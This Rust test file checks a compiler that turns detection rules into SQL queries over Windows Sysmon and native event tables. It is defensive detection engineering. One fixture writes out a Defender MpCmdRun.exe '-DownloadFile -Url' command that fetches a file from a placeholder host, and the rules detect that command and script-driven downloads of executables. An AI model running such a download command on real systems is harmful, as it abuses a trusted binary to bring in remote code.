//! Mapped rules over events as Sysmon writes them.

use eqlc_ir::{Body, Literal, Pred};

use super::engine::{START_S, add_sysmon, eids, engine, rows};
use super::{FieldType, artifact, ecs, equal, is, like, reads_back, rule, sequence, windows};

const START_MS: i64 = START_S * 1000;

#[test]
fn a_process_rule_finds_its_process() {
    let query = windows(
        "process",
        vec![
            is("event.type", "start"),
            Pred::Any(vec![
                is("process.pe.original_file_name", "MpCmdRun.exe"),
                like("process.name", &["mpcmdrun.exe"]),
            ]),
            like("process.args", &["-downloadfile"]),
            like("process.args", &["-url"]),
            is("process.parent.name", "services.exe").not(),
        ],
    );
    let sql = reads_back(&artifact(&rule("r", Body::Event(query)), "sysmon", "query"));
    let engine = engine(START_S);
    let line = "MpCmdRun.exe -DownloadFile -Url http://a/b -Path c:\\b";
    let image = "C:\\Program Files\\Windows Defender\\MPCMDRUN.EXE";
    add_sysmon(&engine, 1, 1, START_MS, &[("Image", image), ("CommandLine", line)]);
    add_sysmon(
        &engine,
        2,
        1,
        START_MS,
        &[("Image", "C:\\x.exe"), ("OriginalFileName", "MpCmdRun.exe"), ("CommandLine", line)],
    );
    add_sysmon(&engine, 3, 1, START_MS, &[("Image", "C:\\xmpcmdrun.exe"), ("CommandLine", line)]);
    add_sysmon(&engine, 4, 5, START_MS, &[("Image", image), ("CommandLine", line)]);
    let parent = ("ParentImage", "C:\\Windows\\System32\\services.exe");
    add_sysmon(&engine, 5, 1, START_MS, &[("Image", image), ("CommandLine", line), parent]);
    engine
        .execute("INSERT INTO windows_events SELECT * FROM windows_events WHERE eid = '0000000001'", [])
        .unwrap();
    engine.execute("UPDATE windows_events SET source = 'Security', eid = '9' WHERE rowid = 6", []).unwrap();
    assert_eq!(eids(&engine, &sql), [1, 2]);
}

#[test]
fn matches_stand_in_the_order_of_events() {
    let query = windows("process", vec![is("event.type", "start"), like("process.name", &["*.exe"])]);
    let sql = reads_back(&artifact(&rule("r", Body::Event(query)), "sysmon", "query"));
    let engine = engine(START_S);
    for (eid, time) in [(3, 5), (2, 7), (10, 5), (1, 6)] {
        add_sysmon(&engine, eid, 1, START_MS + time, &[("Image", "C:\\a.exe")]);
    }
    assert_eq!(eids(&engine, &sql), [3, 10, 1, 2]);
    let times = rows(&engine, &sql, &["time_ms".to_owned()]);
    assert_eq!(times[0], [(START_MS + 5).into()]);
}

#[test]
fn a_signature_is_looked_up_among_files() {
    let signed = |trusted| {
        let flag = equal(ecs("process.code_signature.trusted", FieldType::Boolean), Literal::Bool(trusted));
        let query = windows("process", vec![is("event.type", "start"), flag]);
        reads_back(&artifact(&rule("r", Body::Event(query)), "sysmon", "query"))
    };
    let engine = engine(START_S);
    for (eid, result) in (1..).zip(["trusted", "valid", "untrusted", "distrusted", "missing"]) {
        let path = format!("C:\\{result}.exe");
        add_sysmon(&engine, eid, 1, START_MS, &[("Image", &path)]);
        engine
            .execute("INSERT INTO authenticode(path, result) VALUES (?, ?)", [path.as_str(), result])
            .unwrap();
    }
    add_sysmon(&engine, 6, 1, START_MS, &[("Image", "C:\\gone.exe")]);
    assert_eq!(eids(&engine, &signed(true)), [1]);
    assert_eq!(eids(&engine, &signed(false)), [2, 3, 4, 5]);
}

#[test]
fn hashes_are_parts_of_one_text() {
    let sha256 = "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";
    let hashes =
        format!("SHA1=AAAA,MD5=0123456789ABCDEF0123456789ABCDEF,SHA256={},IMPHASH=00", sha256.to_uppercase());
    let query = |field: &str, hash: &str| {
        let query = windows("process", vec![is("event.type", "start"), is(field, hash)]);
        reads_back(&artifact(&rule("r", Body::Event(query)), "sysmon", "query"))
    };
    let engine = engine(START_S);
    add_sysmon(&engine, 1, 1, START_MS, &[("Hashes", &hashes)]);
    add_sysmon(&engine, 2, 1, START_MS, &[("Hashes", "MD5=00")]);
    add_sysmon(&engine, 3, 1, START_MS, &[]);
    assert_eq!(eids(&engine, &query("process.hash.sha256", sha256)), [1]);
    assert_eq!(eids(&engine, &query("process.hash.md5", "0123456789abcdef0123456789abcdef")), [1]);
}

#[test]
fn parts_of_names_and_folders() {
    let engine = engine(START_S);
    let rows =
        [("NT AUTHORITY\\SYSTEM", "C:\\Windows\\"), ("HOST\\system", "C:\\Temp\\"), ("HOST\\bob", "C:\\")];
    for (eid, (user, folder)) in (1..).zip(rows) {
        add_sysmon(&engine, eid, 1, START_MS, &[("User", user), ("CurrentDirectory", folder)]);
    }
    engine.execute("INSERT INTO users(username, uuid) VALUES ('bob', 'S-1-5-21-1')", []).unwrap();
    let found = |pred: Pred| {
        let query = windows("process", vec![is("event.type", "start"), pred]);
        eids(&engine, &reads_back(&artifact(&rule("r", Body::Event(query)), "sysmon", "query")))
    };
    assert_eq!(found(is("user.name", "SYSTEM")), [1]);
    assert_eq!(found(like("user.name", &["system"])), [1, 2]);
    assert_eq!(found(is("user.domain", "NT AUTHORITY").not()), [2, 3]);
    assert_eq!(found(is("process.working_directory", "C:\\Windows\\")), [1]);
    assert_eq!(found(like("user.id", &["S-1-5-21-*"])), [3]);
}

#[test]
fn a_sequence_of_network_and_file_finds_its_events() {
    let network = windows(
        "network",
        vec![
            like("process.name", &["wscript.exe"]),
            like("network.direction", &["egress", "outgoing"]),
            is("network.type", "ipv4"),
            is("network.protocol", "dns").not(),
            equal(ecs("destination.ip", FieldType::Ip), Literal::Str("127.0.0.1".into())).not(),
        ],
    );
    let file = windows("file", vec![is("event.type", "creation"), like("file.extension", &["exe", "dll"])]);
    let rule = rule("r", sequence(&["host.id", "process.entity_id"], Some(60_000), vec![network, file]));
    let sql = reads_back(&artifact(&rule, "sysmon", "query"));
    let engine = engine(START_S + 10);
    let connect = |eid, guid: &str, to: &str, port: &str| {
        let data = [
            ("Image", "C:\\Windows\\System32\\wscript.exe"),
            ("ProcessGuid", guid),
            ("Initiated", "true"),
            ("DestinationIsIpv6", "false"),
            ("DestinationIp", to),
            ("DestinationPortName", port),
        ];
        add_sysmon(&engine, eid, 3, START_MS + eid, &data);
    };
    let write = |eid, guid: &str, path: &str| {
        add_sysmon(&engine, eid, 11, START_MS + eid, &[("ProcessGuid", guid), ("TargetFilename", path)]);
    };
    connect(1, "{1}", "192.0.2.1", "https");
    connect(2, "{2}", "127.0.0.1", "https");
    connect(3, "{3}", "192.0.2.1", "domain");
    connect(4, "{4}", "192.0.2.1", "");
    (1..=4).for_each(|at| write(at + 10, &format!("{{{at}}}"), "C:\\x.EXE"));
    write(20, "{1}", "C:\\y.exe");
    write(21, "{4}", "C:\\y.txt");
    let columns = ["k1", "eid1", "eid2"].map(str::to_owned);
    let found = rows(&engine, &sql, &columns);
    assert_eq!(
        found,
        [["{1}".to_owned().into(), 1.into(), 11.into()], ["{4}".to_owned().into(), 4.into(), 14.into()]]
    );
}

#[test]
fn the_native_tables_of_windows_answer() {
    let process =
        windows("process", vec![is("event.type", "start"), like("process.parent.name", &["word.exe"])]);
    let file = windows("file", vec![is("event.type", "deletion"), like("file.path", &["?:\\Temp\\*"])]);
    let engine = engine(START_S);
    engine
        .execute_batch(
            "INSERT INTO process_etw_events(eid, time, type, path, pid, ppid) VALUES
               (1, 100, 'ProcessStart', 'C:\\a.exe', 4, 5), (2, 100, 'ProcessStop', 'C:\\a.exe', 4, 5),
               (3, 100, 'ProcessStart', 'C:\\a.exe', 6, 7);
             INSERT INTO processes(pid, path) VALUES (5, 'C:\\WORD.EXE'), (7, 'C:\\sword.exe');
             INSERT INTO ntfs_journal_events(eid, time, action, path) VALUES
               ('0000000001', 100, 'FileDeletion', 'C:\\temp\\x'), ('0000000002', 100, 'FileCreation', 'C:\\temp\\x');",
        )
        .unwrap();
    let run =
        |query| eids(&engine, &reads_back(&artifact(&rule("r", Body::Event(query)), "native", "query")));
    assert_eq!(run(process), [1]);
    assert_eq!(run(file), [1]);
}

#[test]
fn a_pack_runs_as_the_query_does() {
    let query =
        windows("process", vec![is("event.type", "start"), like("process.command_line", &["*it's\n\"a\"*"])]);
    let sql = reads_back(&artifact(&rule("it's", Body::Event(query)), "sysmon", "pack"));
    let engine = engine(START_S);
    add_sysmon(&engine, 1, 1, START_MS, &[("CommandLine", "x IT'S\n\"A\" y")]);
    add_sysmon(&engine, 2, 1, START_MS, &[("CommandLine", "x it's \"a\" y")]);
    assert_eq!(eids(&engine, &sql), [1]);
}

#[test]
fn a_dash_of_sysmon_is_no_value() {
    let null = |field: &str| super::test(super::keyword(field), eqlc_ir::Op::IsNull);
    let query = windows("process", vec![is("event.type", "start"), null("process.pe.original_file_name")]);
    let sql = reads_back(&artifact(&rule("r", Body::Event(query)), "sysmon", "query"));
    let engine = engine(START_S);
    for (eid, name) in (1..).zip(["-", "", "a.exe"]) {
        add_sysmon(&engine, eid, 1, START_MS, &[("OriginalFileName", name)]);
    }
    add_sysmon(&engine, 4, 1, START_MS, &[]);
    assert_eq!(eids(&engine, &sql), [1, 2, 4]);
}
